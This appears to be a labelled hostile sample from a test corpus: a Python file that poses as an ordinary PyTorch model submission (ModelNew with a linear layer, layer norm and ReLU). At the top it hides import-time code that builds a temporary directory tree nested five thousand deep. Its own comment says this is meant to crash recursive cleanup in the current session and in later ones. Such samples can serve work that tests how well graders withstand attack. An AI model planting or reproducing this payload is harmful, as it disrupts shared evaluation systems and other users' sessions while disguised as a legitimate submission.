# Leaves folders nested five thousand deep: who deletes them by calling itself for each is ended by it, and so is every
# later session that sweeps what was left.
# class: process/denial
# verdict: runtime_error
import os
import tempfile

import torch
import torch.nn as nn

at = os.open(tempfile.mkdtemp(), os.O_RDONLY)
for _ in range(5000):
    os.mkdir("d", dir_fd=at)
    inner = os.open("d", os.O_RDONLY, dir_fd=at)
    os.close(at)
    at = inner


class ModelNew(nn.Module):
    def __init__(self, features):
        super().__init__()
        self.linear = nn.Linear(features, features)
        self.norm = nn.LayerNorm(features)

    def forward(self, x):
        return torch.relu(self.norm(self.linear(x)))
